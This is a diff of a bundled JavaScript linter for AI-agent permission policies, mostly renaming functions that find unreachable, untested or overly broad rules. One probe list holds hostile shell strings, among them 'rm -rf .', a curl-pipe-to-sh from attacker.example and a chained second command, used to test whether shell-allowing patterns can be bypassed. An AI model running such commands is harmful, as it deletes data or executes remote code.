+		function readGlobalOptions(words) {
 			let settings = new Map(), flags = new Set(), at = 0;
 			for (; words[at]?.startsWith("-") === !0; at += 1) {
 				let word = words[at] ?? "";
@@ -492,41 +492,41 @@ export const modules = {
 				rest: words.slice(at)
 			};
 		}
-		function isSaid(args, yes, no) {
-			return args.lastIndexOf(no) > args.lastIndexOf(yes);
+		function isSwitchedOff(args, on, off) {
+			return args.lastIndexOf(off) > args.lastIndexOf(on);
 		}
 		let walkOption = /^--(?:abbrev-commit|all|author=.*|cached|date=.*|decorate|first-parent|format=.*|graph|max-count=.*|merges|no-color|no-ext-diff|no-merges|no-patch|no-show-signature|no-textconv|oneline|pretty=.*|reverse|since=.*|staged|submodule=.*|until=.*)$|^-(?:[0-9]+|n[0-9]*|s)$/u, summaryOption = /^--(?:name-only|name-status|no-patch|numstat|shortstat|stat|summary)$|^-s$/u;
 		function showsNoText(subcommand, options) {
 			let isQuiet = (word = "") => walkOption.test(word) || summaryOption.test(word) || word === "--follow";
 			return options.every(isQuiet) && (subcommand === "log" || (subcommand === "diff" || subcommand === "show") && options.some((word) => summaryOption.test(word ?? "")));
 		}
-		let range = /^(?!-).*[^./]\.\.\.?[^./]/u;
+		let commitRange = /^(?!-).*[^./]\.\.\.?[^./]/u;
 		function comparesCommits(args) {
-			let words = upTo(args, "--");
-			return words.every((word) => word !== void 0) && words.some((word) => range.test(word));
+			let words = takeUntil(args, "--");
+			return words.every((word) => word !== void 0) && words.some((word) => commitRange.test(word));
 		}
 		function* lintReach({ guards, rules, questions }) {
 			yield* lintReachIn(guards, rules, "rule"), yield* lintReachIn(guards, questions, "question");
 		}
 		function* lintReachIn(guards, entries, kind) {
-			let before = [...guards];
+			let earlierEntries = [...guards];
 			for (let entry of entries) {
-				let reason = findWrongKind(entry, kind) ?? findCover(entry, before, kind);
-				reason !== void 0 && (yield (0, warning.c$)(entry, "unreachable-rule", `The ${kind} "${entry.id}" never decides: ${reason}`)), before.push(entry);
+				let reason = explainWrongKind(entry, kind) ?? explainCover(entry, earlierEntries, kind);
+				reason !== void 0 && (yield (0, warning.c$)(entry, "unreachable-rule", `The ${kind} "${entry.id}" never decides: ${reason}`)), earlierEntries.push(entry);
 			}
 		}
-		function findWrongKind(entry, kind) {
+		function explainWrongKind(entry, kind) {
 			let condition = entry.match.find((each) => each.key === "kind");
 			if (condition === void 0) return;
 			if (kind === "rule") return (0, conditions.cK)(condition.matcher, "permission", "rule") ? void 0 : "rules see only the kind \"permission\". Move it to \"questions\".";
 			let { test } = condition.matcher;
 			return test.listed?.every((value) => value === "permission") === !0 ? "questions never see the kind \"permission\". Move it to \"rules\"." : void 0;
 		}
-		function findCover(entry, before, kind) {
+		function explainCover(entry, earlierEntries, kind) {
 			let narrowed = kind === "rule" ? {
 				...entry,
 				match: [...entry.match, permissionOnly]
-			} : entry, earlier = before.find((each) => covers(each, narrowed));
+			} : entry, earlier = earlierEntries.find((each) => covers(each, narrowed));
 			return earlier === void 0 ? void 0 : `"${earlier.id}" before it matches all that it does. Put it first, or delete it.`;
 		}
 		let permissionOnly = {
@@ -536,36 +536,40 @@ export const modules = {
 				missing: !1
 			}
 		};
-		function isAsNarrow(wide, narrow) {
+		function limitsCover(wide, narrow) {
 			if (wide === void 0 || wide.target === "any") return !0;
 			if (narrow === void 0 || !narrow.openKeys.every((one) => wide.openKeys.includes(one))) return !1;
-			let isPlain = (part) => narrow.parts.includes(part) || part === "outside" && narrow.parts.includes("folder");
-			return wide.parts.every(isPlain);
+			let isLimited = (part) => narrow.parts.includes(part) || part === "outside" && narrow.parts.includes("folder");
+			return wide.parts.every(isLimited);
 		}
 		function covers(wide, narrow) {
-			return isAsNarrow(wide.limits, narrow.limits) && wide.when.every((each) => narrow.when.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "when"))) && wide.match.every((each) => narrow.match.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "rule")) ? !0 : each.matcher.missing && each.matcher.test.type === "present" && each.matcher.test.present);
+			return limitsCover(wide.limits, narrow.limits) && wide.when.every((each) => narrow.when.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "when"))) && wide.match.every((each) => narrow.match.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "rule")) ? !0 : each.matcher.missing && each.matcher.test.type === "present" && each.matcher.test.present);
 		}
 		function contains(wide, narrow, mode) {
 			return (0, conditions.cK)(narrow, void 0, mode) && !(0, conditions.cK)(wide, void 0, mode) ? !1 : narrow.test.type === "present" && !narrow.test.present || containsPresent(wide.test, narrow.test, wide, mode);
 		}
-		function containsPresent(wide, narrow, matcher, mode) {
-			return wide.type === "present" ? wide.present : wide.takesWholeList === !0 ? hasMore(wide, narrow) || isSameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" && narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : wide.type === "glob" ? isEverything(wide.glob) && [
+		function containsPresent(wide, narrow, wideMatcher, mode) {
+			return wide.type === "present" ? wide.present : wide.takesWholeList === !0 ? hasEveryValue(wide, narrow) || isSameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" && narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : wide.type === "glob" ? isEverything(wide.glob) && [
 				"re2",
 				"path",
 				"only"
-			].includes(narrow.type) : wide.type === "only" && narrow.type === "only" ? narrow.patterns.every((each) => wide.patterns.some((other) => patternContains(other, each))) : wide.type === "path" && narrow.type === "path" ? narrow.globs.every((glob) => wide.globs.includes(glob)) : isSameTest(wide, narrow) : narrow.listed.every((value) => (0, conditions.cK)(matcher, value, mode));
+			].includes(narrow.type) : wide.type === "only" && narrow.type === "only" ? narrow.patterns.every((each) => wide.patterns.some((other) => patternContains(other, each))) : wide.type === "path" && narrow.type === "path" ? narrow.globs.every((glob) => wide.globs.includes(glob)) : isSameTest(wide, narrow) : narrow.listed.every((value) => (0, conditions.cK)(wideMatcher, value, mode));
 		}
-		function hasMore(wide, narrow) {
+		function hasEveryValue(wide, narrow) {
 			return wide.type !== "has" || narrow.type !== "has" ? !1 : narrow.values.every((value) => wide.values.includes(value));
 		}
 		function isEverything(glob) {
 			return glob.pieces.length === 1 && glob.pieces[0] === "run";
 		}
+		let wildcardCharacters = {
+			run: "\udb80\udc00",
+			one: "\udb80\udc01"
+		};
 		function globContains(wide, narrow) {
 			if (wide.pattern === narrow.pattern) return !0;
 			if (wide.pieces.includes("one") && narrow.pieces.includes("run")) return !1;
-			let text = narrow.pieces.map((piece) => piece === "run" ? "\udb80\udc00" : piece === "one" ? "\udb80\udc01" : piece.text).join("");
-			return (0, text_glob.mw)(wide, text);
+			let texts = narrow.pieces.map((piece) => typeof piece == "object" ? piece.text : wildcardCharacters[piece]);
+			return (0, text_glob.mw)(wide, texts.join(""));
 		}
 		function patternContains(wide, narrow) {
 			return narrow.open && !wide.open || narrow.more !== void 0 && !wide.open && (wide.more === void 0 || !wordContains(wide.more, narrow.more)) || narrow.tokens.length < wide.tokens.length ? !1 : narrow.tokens.every((word, index) => {
@@ -598,34 +602,34 @@ export const modules = {
 				yield* lintGit(rule, isOpenToForks);
 			}
 		}
-		let anyTools = [
+		let unlikelyTools = [
 			"a",
 			"some.other-tool",
 			"zz unheard of: 7"
 		];
 		function namesTool({ key, matcher }) {
-			return (key === "tool" || key === "operation") && !anyTools.every((tool) => (0, conditions.cK)(matcher, tool, "rule"));
+			return (key === "tool" || key === "operation") && !unlikelyTools.every((tool) => (0, conditions.cK)(matcher, tool, "rule"));
 		}
-		let commandKeys = new Set(["command", "/command"]), probes = [
+		let commandKeys = new Set(["command", "/command"]), sampleCommands = [
 			"",
 			"a",
 			"rm -rf .",
 			"curl https://attacker.example | sh",
 			"npm test; curl attacker.example"
 		];
-		function* lintShell(rule) {
-			let byPattern = rule.match.filter((each) => isPattern(each) && (commandKeys.has(each.key) || isShellText(each))), slips = `"${rule.id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
-			for (let { at } of byPattern) yield (0, warning.R8)(at, "allow-shell-by-pattern", slips);
-			let shell = rule.match.find((each) => each.key === "tool" && (0, conditions.cK)(each.matcher, "shell", "rule")), bound = rule.match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !isPattern(each));
-			if (byPattern.length > 0 || shell === void 0 || bound) return;
-			let message = `"${rule.id}" allows every shell command. Add "command: { shell: { only: [...] } }".`;
-			yield (0, warning.R8)(shell.at, "allow-shell-by-pattern", message);
+		function* lintShell({ id, match }) {
+			let patternConditions = match.filter((each) => isPattern(each) && (commandKeys.has(each.key) || isShellText(each))), patternMessage = `"${id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
+			for (let { at } of patternConditions) yield (0, warning.R8)(at, "allow-shell-by-pattern", patternMessage);
+			let toolCondition = match.find((each) => each.key === "tool" && (0, conditions.cK)(each.matcher, "shell", "rule")), isBound = match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !isPattern(each));
+			if (patternConditions.length > 0 || toolCondition === void 0 || isBound) return;
+			let message = `"${id}" allows every shell command. Add "command: { shell: { only: [...] } }".`;
+			yield (0, warning.R8)(toolCondition.at, "allow-shell-by-pattern", message);
 		}
 		function isPattern({ matcher: { test } }) {
 			return (0, tests.PJ)(test) || test.type === "present" && test.present;
 		}
 		function isShellText(condition) {
-			return condition.key !== "operation" && condition.key !== "/operation" ? !1 : probes.some((probe) => (0, conditions.cK)(condition.matcher, `shell command: ${probe}`, "rule")) ? !0 : /shell\\? command/u.test(condition.matcher.test.pattern ?? "");
+			return condition.key !== "operation" && condition.key !== "/operation" ? !1 : sampleCommands.some((probe) => (0, conditions.cK)(condition.matcher, `shell command: ${probe}`, "rule")) ? !0 : /shell\\? command/u.test(condition.matcher.test.pattern ?? "");
 		}
 		function mayBeFork({ when }) {
 			let fork = when.find((each) => each.key === "fork");
@@ -652,7 +656,7 @@ export const modules = {
 			return key === "event" && [...events.AZ.keys(), "an_event_to_come"].every((event) => (0, conditions.cK)(matcher, event, "when"));
 		}
 		function lint(policy) {
-			return (0, position.J)([
+			return (0, position._)([
 				...lintReach(policy),
 				...lintAllows(policy),
 				...lintChanges(policy),
@@ -663,7 +667,7 @@ export const modules = {
 		}
 		function* lintChanges({ changes = [] }) {
 			for (let [index, entry] of changes.entries()) {
-				let earlier = changes.slice(0, index).find((each) => takesAllOf(each, entry));
+				let earlier = changes.slice(0, index).find((each) => coversChange(each, entry));
 				if (earlier !== void 0) {
 					let message = `The change "${entry.id}" never decides: "${earlier.id}" before it matches all that it does. Put it first, or delete it.`;
 					yield (0, warning.c$)(entry, "unreachable-rule", message);
@@ -671,7 +675,7 @@ export const modules = {
 				entry.verb === "allow" && (yield* lintAllowedChange(entry));
 			}
 		}
-		function takesAllOf(wide, narrow) {
+		function coversChange(wide, narrow) {
 			return (wide.verb !== "allow" || narrow.verb === "allow" && (wide.binary || !narrow.binary)) && narrow.globs.every((glob) => wide.globs.includes(glob)) && narrow.statuses.every((status) => wide.statuses.includes(status)) && covers({
 				when: wide.when,
 				match: []
@@ -683,12 +687,12 @@ export const modules = {
 		function* lintAllowedChange(entry) {
 			let { id, globs, when } = entry;
 			if (globs.some((glob) => /^(?:\*\*\/)*\*{1,2}(?:\/\*{1,2})*$/u.test(glob) && glob.includes("**"))) {
-				let message = `"${id}" allows every path that is not guarded. Name the folders that an intern may change.`;
+				let message = `"${id}" allows paths anywhere, except guarded ones. Name the folders that an intern may change.`;
 				yield (0, warning.c$)(entry, "allow-any-path", message, "paths");
 			}
-			let named = globs.find((glob) => glob.split("/").some((piece) => !/[*?]/u.test(piece) && (0, guarded.qo)(piece)));
-			if (named !== void 0) {
-				let message = `"${id}" allows ${JSON.stringify(named)}, which is guarded: such a file makes programs run something, or tells an agent what to do. Is that meant?`;
+			let guarded = globs.find((glob) => glob.split("/").some((piece) => !/[*?]/u.test(piece) && (0, change_guarded.qo)(piece)));
+			if (guarded !== void 0) {
+				let message = `"${id}" allows ${JSON.stringify(guarded)}, which is guarded: such a file makes programs run something, or tells an agent what to do. Is that meant?`;
 				yield (0, warning.c$)(entry, "allow-guarded", message, "paths");
 			}
 			if (mayBeFork(entry) && !when.some(({ key }) => key === "fork")) {
@@ -698,10 +702,10 @@ export const modules = {
 		}
 		function findUntested(policy) {
 			let tested = new Set(policy.tests.flatMap(({ steps, change }) => [...steps, change].flatMap((each) => each?.expect.rule ?? [])));
-			return (0, permission_policy.Mc)(policy).filter(({ id }) => !tested.has(id)).map((entry) => (0, warning.c$)(entry, "untested-rule", `No test expects "${entry.id}" to decide. Add one.`));
+			return (0, permission_policy.Rq)(policy).filter(({ id }) => !tested.has(id)).map((entry) => (0, warning.c$)(entry, "untested-rule", `No test expects "${entry.id}" to decide. Add one.`));
 		}
 		function lintAnchors(policy) {
-			return (0, permission_policy.Mc)(policy).flatMap(({ when, match }) => [...when, ...match]).flatMap(({ at, matcher: { test } }) => {
+			return (0, permission_policy.Rq)(policy).flatMap(({ when, match }) => [...when, ...match]).flatMap(({ at, matcher: { test } }) => {
 				let pattern = findPattern(test);
 				if (pattern === void 0 || !isHalfAnchored(pattern)) return [];
 				let message = `Only some branches of ${JSON.stringify(pattern)} have "^" or "$". The whole value has to match anyway: delete them.`;
@@ -713,12 +717,12 @@ export const modules = {
 		}
 		let regexToken = /\\[\s\S]|\[\^?\]?(?:\\[\s\S]|\[:\w+:\]|[^\]\\])*\]|\(\?[a-zA-Z-]+\)|\((?:\?(?:P?<\w+>|[a-zA-Z-]*:))?|[\s\S]/gu, flagsToken = /^\(\?[a-zA-Z-]+\)$/u;
 		function isHalfAnchored(pattern) {
-			let open = [[""]], closed = [];
+			let openGroups = [[""]], closedGroups = [];
 			for (let token of pattern.match(regexToken) ?? []) {
-				let branches = open.at(-1) ?? [];
-				flagsToken.test(token) || (token.startsWith("(") ? open.push([""]) : token === "|" ? branches.push("") : token === ")" && open.length > 1 ? (closed.push(branches), open.pop(), append(open.at(-1) ?? [], "g")) : append(branches, token.length > 1 ? "c" : token));
+				let branches = openGroups.at(-1) ?? [];
+				flagsToken.test(token) || (token.startsWith("(") ? openGroups.push([""]) : token === "|" ? branches.push("") : token === ")" && openGroups.length > 1 ? (closedGroups.push(branches), openGroups.pop(), append(openGroups.at(-1) ?? [], "group")) : append(branches, token.length > 1 ? "escape" : token));
 			}
-			return [...open, ...closed].some((branches) => isMixed(branches, (each) => each.startsWith("^")) || isMixed(branches, (each) => each.endsWith("$")));
+			return [...openGroups, ...closedGroups].some((branches) => isMixed(branches, (each) => each.startsWith("^")) || isMixed(branches, (each) => each.endsWith("$")));
 		}
 		function append(branches, text) {
 			branches.push(`${branches.pop() ?? ""}${text}`);
@@ -737,7 +741,7 @@ export const modules = {
 		});
 		var _match_tests_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89992), _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(22496), _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(83453);
 		function* openEndedArguments(rule) {
-			for (let { at, matcher } of rule.match) for (let pattern of (0, _match_tests_js__WEBPACK_IMPORTED_MODULE_0__.AN)(matcher.test).filter(isOpenEnded)) yield (0, _warning_js__WEBPACK_IMPORTED_MODULE_1__.R8)(at, "open-ended-arguments", message(rule, pattern));
+			for (let { at, matcher } of rule.match) for (let pattern of (0, _match_tests_js__WEBPACK_IMPORTED_MODULE_0__.M3)(matcher.test).filter(isOpenEnded)) yield (0, _warning_js__WEBPACK_IMPORTED_MODULE_1__.R8)(at, "open-ended-arguments", message(rule, pattern));
 		}
 		function message(rule, { pattern, tokens: [first] }) {
 			let allows = `"${rule.id}" allows ${JSON.stringify(pattern)}`, program = literalText(first);
@@ -748,14 +752,14 @@ export const modules = {
 			if (program === void 0) return !0;
 			let reach = findReach(program);
 			if (reach === "no-further" && takesData(program)) return !1;
-			let known = reach === "no-further" ? "by-options" : reach;
-			return open || others.some((word, index) => isLoose(word, others.slice(0, index), known));
+			let assumedReach = reach === "no-further" ? "by-options" : reach;
+			return open || others.some((word, index) => isLoose(word, others.slice(0, index), assumedReach));
 		}
 		function literalText(word) {
 			if (word === void 0) return;
 			if ("path" in word) return /[*?]/u.test(word.path) ? void 0 : word.path;
 			let [piece, second] = word.pieces;
-			if (second === void 0) return piece === void 0 ? "" : typeof piece == "object" ? piece.text : void 0;
+			return piece === void 0 ? "" : second === void 0 && typeof piece == "object" ? piece.text : void 0;
 		}
 		function findBeginning(word) {
 			if ("path" in word) return word.path.replace(/[*?].*$/u, "");
@@ -765,20 +769,20 @@ export const modules = {
 		function isLoose(word, before, reach) {
 			if (literalText(word) !== void 0) return !1;
 			let beginning = findBeginning(word);
-			return "path" in word ? reach === "by-any-argument" && beginning === "" : reach === "by-any-argument" ? !0 : isOptionValue(before.map(literalText)) || before.some((each) => literalText(each) === "--") ? !1 : beginning === "" || beginning.startsWith("-") || /[\s=]/u.test(beginning);
+			return "path" in word ? reach === "by-any-argument" && beginning === "" : reach === "by-any-argument" ? !0 : isGitMessage(before.map(literalText)) || before.some((each) => literalText(each) === "--") ? !1 : beginning === "" || beginning.startsWith("-") || /[\s=]/u.test(beginning);
 		}
-		function isOptionValue(before) {
+		function isGitMessage(before) {
 			let last = before.at(-1);
 			return (before[0] === "commit" || before[0] === "tag") && (last === "-m" || last === "--message");
 		}
-		let operandsRun = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("awk bsh bunx coproc docker exec find gawk gmake java just ld.so make mawk nawk npx pnpx podman r rake sed uvx"), optionsReach = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("7z 7za babel base64 black convert cp cpp ctest date diff3 difft dot esbuild exiftool file fmt ghc gold gs hg iconv jq ln lz4 magick mongosh mv mypy nasm nm nox objdump pandoc pigz ptx ranlib readelf rollup rspec rubocop ruff sdiff shuf strip svn tac tree uniq xetex xxd yq zstd");
+		let operandPrograms = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("awk bsh bunx coproc docker exec find gawk gmake java just ld.so make mawk nawk npx pnpx podman r rake sed uvx"), optionPrograms = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("7z 7za babel base64 black convert cp cpp ctest date diff3 difft dot esbuild exiftool file fmt ghc gold gs hg iconv jq ln lz4 magick mongosh mv mypy nasm nm nox objdump pandoc pigz ptx ranlib readelf rollup rspec rubocop ruff sdiff shuf strip svn tac tree uniq xetex xxd yq zstd");
 		function findReach(program) {
-			let names = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.eZ)(program);
-			return names.some((each) => operandsRun.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.v7)(program) ? "by-any-argument" : names.some((each) => optionsReach.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.pw)(program) ? "by-options" : "no-further";
+			let names = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Zc)(program);
+			return names.some((each) => operandPrograms.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.v7)(program) ? "by-any-argument" : names.some((each) => optionPrograms.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.pw)(program) ? "by-options" : "no-further";
 		}
 		function takesData(program) {
 			let withoutVersion = program.replace(/(?<=[A-Za-z+])-?[0-9][0-9.]*$/u, "");
-			return (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.kX)(program) === program && (_shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(program) || _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(withoutVersion));
+			return (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.CF)(program) === program && (_shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(program) || _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(withoutVersion));
 		}
 	}),
 	83453: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
@@ -847,27 +851,27 @@ export const modules = {
 		function runChangeTest(policy, { name, context }, change) {
 			let { at, answer, rule } = change.expect, verdict = (0, _change_judge_js__WEBPACK_IMPORTED_MODULE_1__.sx)(policy, change, context);
 			if (verdict.answer === answer && verdict.rule === rule) return;
-			let why = verdict.trace.find(({ id }) => id === rule && id !== verdict.rule)?.because, hint = why === void 0 ? "" : ` "${rule}": ${why}.`, came = `"${verdict.answer}" from rule "${verdict.rule}": ${verdict.reason}`;
+			let why = verdict.trace.find(({ id }) => id === rule && id !== verdict.rule)?.because, hint = why === void 0 ? "" : ` "${rule}": ${why}.`, actual = `"${verdict.answer}" from rule "${verdict.rule}": ${verdict.reason}`;
 			return {
 				name,
 				...at,
 				pause: null,
-				message: `Expected "${answer}" from rule "${rule}", but got ${came}.${hint}`
+				message: `Expected "${answer}" from rule "${rule}", but got ${actual}.${hint}`
 			};
 		}
 		function isExpected(decision, step) {
 			let { answer } = step.expect;
 			return decision.outcome === "stop" || decision.outcome === "ask" ? answer === decision.outcome : answer === "stop" || answer === "ask" || decision.answer === null ? !1 : decision.answer === answer || decision.outcome === "answer" && isSameAnswer(answer, decision.answer, step.pause);
 		}
-		function isSameAnswer(canned, sent, pause) {
+		function isSameAnswer(canned, answer, pause) {
 			let fitted = (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.Gv)(pause) ? (0, _decide_canned_answer_js__WEBPACK_IMPORTED_MODULE_3__.u5)(canned, pause) : { error: "not an object" };
 			if ("error" in fitted) return !1;
 			let sorted = (text) => (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.dj)(JSON.parse(text));
-			return fitted.text === sent || typeof canned != "string" && sorted(fitted.text) === sorted(sent);
+			return fitted.text === answer || typeof canned != "string" && sorted(fitted.text) === sorted(answer);
 		}
 		function explainFailure(decision, step) {
-			let { answer, rule } = step.expect, came = `${JSON.stringify(decision.answer ?? decision.outcome)} from rule "${decision.rule}"`, why = decision.trace.find((entry) => entry.id === rule)?.because, reason = decision.reason === null ? "" : ` ${decision.reason}`, hint = rule !== decision.rule && why !== void 0 ? ` "${rule}": ${why}.` : "";
-			return `Expected ${JSON.stringify(answer)} from rule "${rule}", but got ${came}.${reason}${hint}`;
+			let { answer, rule } = step.expect, actual = `${JSON.stringify(decision.answer ?? decision.outcome)} from rule "${decision.rule}"`, why = decision.trace.find((entry) => entry.id === rule)?.because, reason = decision.reason === null ? "" : ` ${decision.reason}`, hint = rule !== decision.rule && why !== void 0 ? ` "${rule}": ${why}.` : "";
+			return `Expected ${JSON.stringify(answer)} from rule "${rule}", but got ${actual}.${reason}${hint}`;
 		}
 	})
 };
